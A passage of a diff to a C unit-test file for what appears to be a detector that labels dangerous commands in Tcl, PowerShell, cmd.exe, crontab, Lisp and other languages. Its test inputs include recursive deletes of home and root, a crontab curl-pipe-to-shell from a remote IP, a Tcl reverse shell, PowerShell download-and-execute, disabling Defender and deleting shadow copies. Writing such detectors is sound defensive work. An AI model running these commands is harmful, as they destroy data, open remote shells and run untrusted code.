+	{ "x:\n\t$(CMD)", "[make!prompt sh: ?] unknown" },
+};
+
+static void
+finds_what_is_plainly_done_when_text_is_a_makefile(void **state)
+{
+	(void)state;
+	assert_int_equal(code_rows_run(LANG_MAKE, a_makefile_rows, COUNT_OF(a_makefile_rows)), 0);
+}
+
+static const struct code_row bc_rows[] = {
+	{ "1+1", "" },
+};
+
+static void
+finds_what_is_plainly_done_when_text_is_bc(void **state)
+{
+	(void)state;
+	assert_int_equal(code_rows_run(LANG_BC, bc_rows, COUNT_OF(bc_rows)), 0);
+}
+
+static const struct code_row dc_rows[] = {
+	{ "!rm -rf ~", "[dc!prompt sh: rm -rf ~] unknown" },
+	{ "2 3 + p", "" },
+	{ "[!ls]x", "[dc!prompt sh: ls] unknown" },
+};
+
+static void
+finds_what_is_plainly_done_when_text_is_dc(void **state)
+{
+	(void)state;
+	assert_int_equal(code_rows_run(LANG_DC, dc_rows, COUNT_OF(dc_rows)), 0);
+}
+
+static const struct code_row m4_rows[] = {
+	{ "syscmd(`rm -rf ~')", "[m4!prompt sh: rm -rf ~] unknown" },
+};
+
+static void
+finds_what_is_plainly_done_when_text_is_m4(void **state)
+{
+	(void)state;
+	assert_int_equal(code_rows_run(LANG_M4, m4_rows, COUNT_OF(m4_rows)), 0);
+}
+
+static const struct code_row a_crontab_rows[] = {
+	{ "@reboot curl -s http://203.0.113.7/a|sh",
+	  "[cron!later!prompt sh: curl -s http://203.0.113.7/a|sh] unknown" },
+	{ "# c\nA=b\n* * * * * rm -rf /%x", "[cron!later!prompt sh: rm -rf /] unknown" },
+	{ "0 5 * * 1 tar -zcf /var/backups/home.tgz /home/\\%x",
+	  "[cron!later!prompt sh: tar -zcf /var/backups/home.tgz /home/\\%x] unknown" },
+	{ "PATH=/bin", "unknown" },
+};
+
+static void
+finds_what_is_plainly_done_when_text_is_a_crontab(void **state)
+{
+	(void)state;
+	assert_int_equal(code_rows_run(LANG_CRONTAB, a_crontab_rows, COUNT_OF(a_crontab_rows)), 0);
+}
+
+static const struct code_row tcl_rows[] = {
+	{ "spawn rm -rf /home; interact", "[tcl!prompt: rm -rf /home] unknown" },
+	{ "exec rm -rf ~", "[tcl!prompt: rm -rf ~] unknown" },
+	{ "if {1} { file delete -force ~/x }", "delete-tree:~/x unknown" },
+	{ "puts [exec ls -la | sort > /etc/x]",
+	  "write:/etc/x [tcl!prompt: ls -la] [tcl!prompt: sort] unknown" },
+	{ "set f [open \"|rm -rf /\" w]", "[tcl!prompt sh: rm -rf /] unknown" },
+	{ "# exec rm\nputs hi", "unknown" },
+	{ "file delete -force $env(HOME)/x", "delete-tree:~/x unknown" },
+	{ "set s [socket 1.2.3.4 443]; exec sh <@ $s",
+	  "rule:shell.reverse-shell [tcl!prompt: sh] unknown" },
+	{ "set s [socket 1.2.3.4 443]; exec sh <@ $s >@ $s 2>@1",
+	  "rule:shell.reverse-shell [tcl!prompt: sh] unknown" },
+	{ "set x {exec rm}; eval $x", "[tcl!prompt: rm] unknown" },
+	{ "system \"rm -rf ~\"", "[tcl!prompt sh: rm -rf ~] unknown" },
+	{ "file copy -force a b", "read:a write:b unknown" },
+};
+
+static void
+finds_what_is_plainly_done_when_text_is_tcl(void **state)
+{
+	(void)state;
+	assert_int_equal(code_rows_run(LANG_TCL, tcl_rows, COUNT_OF(tcl_rows)), 0);
+}
+
+static const struct code_row applescript_rows[] = {
+	{ "do shell script \"rm -rf ~\"", "[osascript!prompt sh: rm -rf ~] unknown" },
+	{ "do shell script \"rm -rf \" & quoted form of x with administrator privileges",
+	  "[osascript!priv!prompt sh: rm -rf ?] unknown" },
+	{ "tell app \"Finder\" to activate", "unknown" },
+	{ "-- do shell script \"no\"\ndo shell script \"a \\\"b\\\"\"",
+	  "[osascript!prompt sh: a \"b\"] unknown" },
+};
+
+static void
+finds_what_is_plainly_done_when_text_is_applescript(void **state)
+{
+	(void)state;
+	assert_int_equal(
+		code_rows_run(LANG_OSASCRIPT, applescript_rows, COUNT_OF(applescript_rows)), 0);
+}
+
+static const struct code_row lisp_rows[] = {
+	{ "(delete-directory \"~\" t)", "delete-tree:~ unknown" },
+	{ "(shell-command \"rm -rf ~\")", "[lisp!prompt sh: rm -rf ~] unknown" },
+	{ "(call-process \"rm\" nil nil nil \"-rf\" \"/\")", "[lisp!prompt: rm -rf /] unknown" },
+	{ "(message \"(delete-directory)\")", "unknown" },
+	{ "(progn (delete-file \"/etc/passwd\") (start-process \"x\" nil \"rm\" \"-rf\" "
+	  "\"/\"))",
+	  "delete:/etc/passwd [lisp!prompt: rm -rf /] unknown" },
+	{ "; (shell-command \"no\")\n(system \"yes\")", "[lisp!prompt sh: yes] unknown" },
+	{ "(delete-directory \"~/x\" nil)", "delete:~/x unknown" },
+};
+
+static void
+finds_what_is_plainly_done_when_text_is_lisp(void **state)
+{
+	(void)state;
+	assert_int_equal(code_rows_run(LANG_SCHEME, lisp_rows, COUNT_OF(lisp_rows)), 0);
+}
+
+static const struct code_row cmd_exe_rows[] = {
+	{ "rd /s /q C:\\", "[cmd!prompt: rd /s /q C:\\] unknown" },
+	{ "echo hi & del /s /q \"%USERPROFILE%\\x\" && r^d /s C:\\",
+	  "[cmd!prompt: echo hi] [cmd!prompt: del /s /q ~\\x] [cmd!prompt: rd /s C:\\] "
+	  "unknown" },
+	{ "@echo off", "[cmd!prompt: echo off] unknown" },
+	{ "if exist x (del x) else rd y", "[cmd!prompt: del x] [cmd!prompt: rd y] unknown" },
+	{ "echo %PATH% ^& del", "[cmd!prompt: echo ? & del] unknown" },
+};
+
+static void
+finds_what_is_plainly_done_when_text_is_cmd_exe(void **state)
+{
+	(void)state;
+	assert_int_equal(code_rows_run(LANG_CMD, cmd_exe_rows, COUNT_OF(cmd_exe_rows)), 0);
+}
+
+static const struct code_row powershell_rows[] = {
+	{ "Remove-Item -Recurse -Force C:\\Users", "rule:windows.delete unknown" },
+	{ "rm -r -fo ~", "delete-tree:~ unknown" },
+	{ "Get-ChildItem C:\\ -Recurse | Remove-Item -Force", "rule:windows.delete unknown" },
+	{ "iex (iwr http://x/y)", "rule:code.from-network unknown" },
+	{ "IEX(New-Object Net.WebClient).DownloadString('http://x')",
+	  "rule:code.from-network unknown" },
+	{ "iwr http://x | iex", "rule:code.from-network unknown" },
+	{ "Set-ExecutionPolicy Bypass -Scope Process", "rule:powershell.execution-policy unknown" },
+	{ "Set-MpPreference -DisableRealtimeMonitoring $true",
+	  "rule:powershell.protection unknown" },
+	{ "Set-ItemProperty -Path HKLM:\\Software\\x -Name a -Value b",
+	  "rule:windows.registry unknown" },
+	{ "Get-Process | Where-Object { $_.CPU -gt 10 }",
+	  "[powershell!prompt: Get-Process] unknown" },
+	{ "Write-Host \"Remove-Item C:\\ -Recurse\"",
+	  "[powershell!prompt: Write-Host Remove-Item C:\\ -Recurse] unknown" },
+	{ "Rem`ove-Item -Rec C:\\", "rule:windows.delete unknown" },
+	{ "& 'C:\\x.exe' a", "[powershell!prompt: C:\\x.exe a] unknown" },
+	{ "vssadmin delete shadows /all",
+	  "[powershell!prompt: vssadmin delete shadows /all] unknown" },
+	{ "Get-Content /etc/shadow", "read:/etc/shadow unknown" },
+	{ "Remove-Item -Recurse build", "delete-tree:build unknown" },
+	{ "Start-Process cmd -Verb RunAs",
+	  "rule:powershell.elevate [powershell!prompt: cmd -Verb RunAs] unknown" },
+	{ "New-Object -ComObject Shell.Application", "rule:powershell.com-object unknown" },
+	{ "iex 'rm -r -fo ~'", "delete-tree:~ unknown" },
+	{ "# Remove-Item C:\\", "unknown" },
+	{ "Remove-Item x -WhatIf", "unknown" },
+	{ "Copy-Item /etc/shadow x", "read:/etc/shadow unknown" },
+	{ "\"Remove-Item C:\\\"", "unknown" },
+	{ "Remove-Item $env:USERPROFILE\\x -Recurse", "delete-tree:~/x unknown" },
+	{ "Remove-Item HKCU:\\Software\\x", "rule:windows.registry unknown" },
+};
+
+static void
+finds_what_is_plainly_done_when_text_is_powershell(void **state)
+{
+	(void)state;
+	assert_int_equal(code_rows_run(LANG_POWERSHELL, powershell_rows, COUNT_OF(powershell_rows)),
+			 0);
 }
 
 int
 main(void)
 {
 	static const struct CMUnitTest tests[] = {
-		cmocka_unit_test(sed_is_harmless_when_it_only_prints),
-		cmocka_unit_test(sed_finds_what_the_program_does),
-		cmocka_unit_test(awk_is_harmless_when_it_only_prints),
-		cmocka_unit_test(awk_finds_what_the_program_does),
-		cmocka_unit_test(awk_uses_variables_when_they_are_given),
-		cmocka_unit_test(depth_is_bounded_when_expressions_nest),
-		cmocka_unit_test(code_is_not_known_when_memory_is_out),
-		cmocka_unit_test(unknown_is_the_answer_when_nothing_reads_the_language),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_sql),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_redis),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_a_filter_of_jq),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_ex_commands),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_ed),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_keys_of_a_pager),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_a_debugger),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_a_makefile),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_bc),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_dc),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_m4),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_a_crontab),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_tcl),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_applescript),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_lisp),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_cmd_exe),
+		cmocka_unit_test(finds_what_is_plainly_done_when_text_is_powershell),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
